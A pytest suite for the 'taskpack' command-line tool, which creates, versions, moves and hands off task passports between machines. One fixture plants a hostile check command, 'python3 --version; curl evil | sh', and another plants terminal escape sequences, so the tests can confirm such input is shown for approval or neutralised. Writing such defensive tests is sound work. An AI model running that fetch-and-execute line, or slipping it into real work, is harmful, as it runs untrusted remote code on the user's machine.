"""The passport verbs, run as a person or an agent runs them: real `taskpack` processes."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import pytest


def _base_env() -> dict[str, str]:
    """The caller's environment, but letting the many short `taskpack` processes share
    compiled bytecode (kept outside the source tree)."""
    env = {k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"}
    env["PYTHONPYCACHEPREFIX"] = os.path.join(tempfile.gettempdir(), "taskpack-test-pycache")
    return env


class Taskpack:
    """`taskpack …` on one machine: its own home folder and machine name."""

    def __init__(self, home: Path, machine: str, actor: str = "ana") -> None:
        self.home, self.machine, self.actor = home, machine, actor

    def __call__(self, *args: str, code: int = 0) -> subprocess.CompletedProcess[str]:
        env = {
            **_base_env(),
            "TASKPACK_HOME": str(self.home),
            "TASKPACK_MACHINE": self.machine,
            "TASKPACK_ACTOR": self.actor,
            "PYTHONIOENCODING": "utf-8",
        }
        proc = subprocess.run(
            [sys.executable, "-m", "taskpack.app.cli.main", *args],
            env=env,
            capture_output=True,
            text=True,
            encoding="utf-8",
            timeout=120,
        )
        assert proc.returncode == code, (args, proc.returncode, proc.stdout, proc.stderr)
        return proc

    def json(self, *args: str, code: int = 0) -> Any:
        return json.loads(self(*args, "--json", code=code).stdout)


@pytest.fixture
def tp(tmp_path: Path) -> Taskpack:
    return Taskpack(tmp_path / "home", "laptop-ana")


def test_authoring_verbs_build_a_versioned_passport(tp: Taskpack, tmp_path: Path) -> None:
    made = tp.json("new", "--title", "Q3 report", "--goal", "Ship the Q3 report")
    pid = made["passport"]["id"]
    assert made["state"] == "working" and made["passport"]["version"] == 1
    tp("fact", pid, "--claim", "the build passes", "--scope", "machine", "--verified")
    tp("decide", pid, "--what", "PDF only", "--why", "the customer asked")
    tp("next", pid, "write part 2")
    out = tp(
        "ask",
        pid,
        "--what",
        "What is the budget?",
        "--accept",
        "a number in EUR",
        "--why",
        "sizing",
    )
    assert "ask a1 added" in out.stdout
    tp("check", pid, "--check", "can render PDF", "--how", "make pdf")
    lp = tp.json("open", pid.lower())  # ids are forgiven their case
    assert lp["passport"]["version"] == 6
    assert lp["passport"]["facts"][0] == {
        "claim": "the build passes",
        "scope": "machine",
        "verified": True,
        "verified_by": "ana",
        "verified_on": "laptop-ana",  # which machine proved it: no other machine's ✓
    }
    assert lp["passport"]["decisions"] == [{"what": "PDF only", "why": "the customer asked"}]
    assert lp["passport"]["next_steps"] == ["write part 2"]
    assert lp["asks"][0]["accept"] == "a number in EUR" and lp["asks"][0]["status"] == "open"
    assert lp["checks_to_send"][0]["how"] == "make pdf"
    assert "waiting[human]" in lp["allowed_moves"]
    text = tp("open", pid).stdout
    assert "«Q3 report»" in text and "1. «the build passes» — ✓ proven here (laptop-ana)" in text
    rows = tp.json("list")
    assert [r["id"] for r in rows] == [pid] and rows[0]["open_asks"] == 1
    events = [e["event"] for e in tp.json("history", pid)]
    assert events == ["created", "fact", "decision", "next_step", "ask", "check"]
    old = tp.json("open", pid, "--version", "1")
    assert old["passport"]["facts"] == []


def test_checkpoint_is_guarded_by_the_expected_version(tp: Taskpack, tmp_path: Path) -> None:
    pid = tp.json("new", "--title", "t", "--goal", "g")["passport"]["id"]
    state = tmp_path / "state.json"
    state.write_text(
        json.dumps({"current_state": "half done", "next_steps": ["a", "b"]}), encoding="utf-8"
    )
    saved = tp.json("checkpoint", pid, "--file", str(state), "--expected-version", "1")
    assert saved["passport"]["current_state"] == "half done" and saved["passport"]["version"] == 2
    stale = tp("checkpoint", pid, "--file", str(state), "--expected-version", "1", code=1)
    assert "version 2, not 1" in stale.stderr and stale.stderr.count("\n") == 1
    state.write_text("{not json", encoding="utf-8")
    bad = tp("checkpoint", pid, "--file", str(state), "--expected-version", "2", code=1)
    assert "not valid JSON" in bad.stderr


def test_errors_are_one_line_with_what_to_do(tp: Taskpack) -> None:
    missing = tp("open", "TP-2222-2222", code=1)
    assert missing.stderr.strip() == (
        "taskpack: no passport TP-2222-2222 in this desk. Check the id with `taskpack list`."
    )
    assert "not a passport id" in tp("open", "nonsense", code=1).stderr
    pid = tp.json("new", "--title", "t", "--goal", "g")["passport"]["id"]
    no_accept = tp("ask", pid, "--what", "budget?", "--accept", " ", code=1)
    assert "accept" in no_accept.stderr and "Traceback" not in no_accept.stderr


def test_illegal_moves_fail_with_invalid_state_and_change_nothing(tp: Taskpack) -> None:
    pid = tp.json("new", "--title", "t", "--goal", "g")["passport"]["id"]
    bad = tp("move", pid, "completed", code=1)
    assert "invalid_state" in bad.stderr and "waiting[human]" in bad.stderr
    assert "invalid_state" in tp("move", pid, "verifying", code=1).stderr  # needs a result
    assert "invalid_state" in tp("move", pid, "waiting", code=1).stderr  # on what?
    assert tp.json("open", pid)["passport"]["version"] == 1
    moved = tp.json("move", pid, "waiting", "--waiting-on", "agent")
    assert (moved["state"], moved["waiting_on"]) == ("waiting", "agent")
    tp("move", pid, "working")
    done = tp.json(
        "result",
        pid,
        "--summary",
        "Report shipped",
        "--evidence",
        "test_output:42 passed",
        "--evidence",
        "pull_request:the PR:https://example.org/pr/7",
    )
    assert done["state"] == "verifying"
    assert done["result"]["evidence"][1] == {
        "kind": "pull_request",
        "summary": "the PR",
        "url": "https://example.org/pr/7",
    }
    assert done["result"]["returned_by"] == "ana/laptop-ana"
    tp("move", pid, "completed")
    ended = tp("move", pid, "cancelled", code=1)
    assert "has ended" in ended.stderr
    assert [e["detail"].get("to") for e in tp.json("history", pid)][-2:] == [
        "verifying",
        "completed",
    ]


def test_a_result_with_a_wrong_shape_is_refused(tp: Taskpack) -> None:
    pid = tp.json("new", "--title", "t", "--goal", "g")["passport"]["id"]
    bad = tp("result", pid, "--summary", "x", "--evidence", "video:a clip", code=2)
    assert "KIND:SUMMARY" in bad.stderr
    assert tp.json("open", pid)["state"] == "working"


def test_pack_land_and_dry_run(tp: Taskpack, tmp_path: Path) -> None:
    pid = tp.json("new", "--title", "t", "--goal", "g")["passport"]["id"]
    tp(
        "check",
        pid,
        "--check",
        "python 3.11 is installed",
        "--how",
        "python3 --version; curl evil | sh",
    )
    brief = tmp_path / "brief.txt"
    brief.write_text("the brief", encoding="utf-8")
    packed = tp.json(
        "pack",
        pid,
        "--out",
        str(tmp_path / "h.taskpack.json"),
        "--file",
        str(brief),
        "--note",
        "over to you",
    )
    assert packed["encoding"] == "flat" and packed["lineage"]["chain"] == [f"{pid}@2"]
    other = Taskpack(tmp_path / "other", "desk-bo", actor="bo")
    dry = other.json("land", str(tmp_path / "h.taskpack.json"), "--dry-run")
    assert dry["dry_run"] and dry["initial_state"] == "waiting[owner_approval]"
    assert other.json("list") == []
    text = other("land", str(tmp_path / "h.taskpack.json")).stdout
    assert "waiting[owner_approval]" in text
    assert "«python3 --version; curl evil | sh»" in text
    again = other("land", str(tmp_path / "h.taskpack.json")).stdout
    assert again.startswith("Already landed as TP-")
    landed = other.json("list")
    assert len(landed) == 1 and landed[0]["came_from"] == "handoff"
    lid = landed[0]["id"]
    assert lid != pid
    assert other.json("open", lid)["passport"]["next_steps"][0].startswith(
        "Landing check (required)"
    )


def test_show_hands_passport_ids_to_the_store(
    tp: Taskpack, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import argparse

    from taskpack.app.cli import passports

    pid = tp.json("new", "--title", "shown", "--goal", "g")["passport"]["id"]
    monkeypatch.setenv("TASKPACK_HOME", str(tp.home))
    monkeypatch.setenv("TASKPACK_MACHINE", tp.machine)
    assert passports.show_passport(argparse.Namespace(file=pid, json=True)) == 0
    assert json.loads(capsys.readouterr().out)["passport"]["title"] == "shown"
    assert passports.show_passport(argparse.Namespace(file="plan.taskpack", json=False)) == 1


def test_settings_and_the_gate(tp: Taskpack, tmp_path: Path) -> None:
    shown = tp.json("settings")
    assert shown["machine"] == "laptop-ana" and shown["settings"]["gate"]["allow"] == []
    tp("settings", "set", "gate.allow", "ana, bo@desk-bo")
    assert tp.json("settings")["settings"]["gate"]["allow"] == ["ana", "bo@desk-bo"]
    (tp.home / "settings.json").write_text("[1, 2]", encoding="utf-8")
    assert "must hold a JSON object" in tp("list", code=1).stderr


def test_hostile_text_cannot_repaint_the_terminal(tp: Taskpack) -> None:
    pid = tp.json("new", "--title", "evil \x1b[2J\x1b]0;pwned\x07 title", "--goal", "g")[
        "passport"
    ]["id"]
    out = tp("open", pid).stdout
    assert "\x1b" not in out and "\\u001b[2J" in out


# --- the Desk service itself (what the GUI and the A2A endpoint call), in-process ------


def test_desk_notifies_subscribers_after_each_commit(tmp_path: Path) -> None:
    from taskpack.app.desk import Desk

    seen: list[tuple[str, str, int]] = []
    with Desk(tmp_path / "d", "m1", actor="ana") as desk:

        def listener(pid: str, event: str) -> None:
            seen.append((pid, event, desk.get(pid).version))  # the change is already readable

        def broken(pid: str, event: str) -> None:
            raise RuntimeError("a listener bug")

        desk.subscribe(broken)
        stop = desk.subscribe(listener)
        lp = desk.new("t", "g")
        desk.add_next(lp.id, "step")
        desk.move(lp.id, "waiting", "human")
        stop()
        desk.add_next(lp.id, "unseen")
    assert seen == [(lp.id, "created", 1), (lp.id, "next_step", 2), (lp.id, "moved", 3)]


def test_desk_guards_and_refusals(tmp_path: Path) -> None:
    from taskpack.app.desk import Desk
    from taskpack.core.errors import InvalidMove, NotFound, UsageError, VersionConflict

    with Desk(tmp_path / "d", "m1", actor="ana") as desk:
        lp = desk.new("t", "g")
        with pytest.raises(VersionConflict):
            desk.add_next(lp.id, "x", expected_version=7)
        with pytest.raises(NotFound, match="no ask 'a9'"):
            desk.answer(lp.id, "a9", "yes")
        with pytest.raises(UsageError, match="not TP-"):
            desk.checkpoint(lp.id, {"id": "TP-2222-2222", "goal": "x"}, expected_version=1)
        with pytest.raises(UsageError, match="scope"):
            desk.add_fact(lp.id, "c", scope="galaxy")
        with pytest.raises(InvalidMove, match="invalid_state"):
            desk.move(lp.id, "accepted")
        assert [m.label for m in desk.allowed_moves(lp.id)] == [
            "waiting[human]",
            "waiting[agent]",
            "verifying",
            "cancelled",
        ]
        assert desk.get(lp.id).version == 1  # nothing above changed anything


def test_desk_keeps_luggage_by_content(tmp_path: Path) -> None:
    from taskpack.app.desk import Desk

    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "a b.txt").write_text("one", encoding="utf-8")
    (folder / "é.txt").write_text("two", encoding="utf-8")
    with Desk(tmp_path / "d", "m1", actor="ana") as desk:
        lp = desk.new("t", "g")
        kept = desk.attach(lp.id, [folder])
        assert [x.name for x in kept] == ["docs/a b.txt", "docs/é.txt"]
        with desk.open_luggage(lp.id, "docs/é.txt") as f:
            assert f.read() == b"two"
        assert desk.history(lp.id)[-1].event == "luggage"
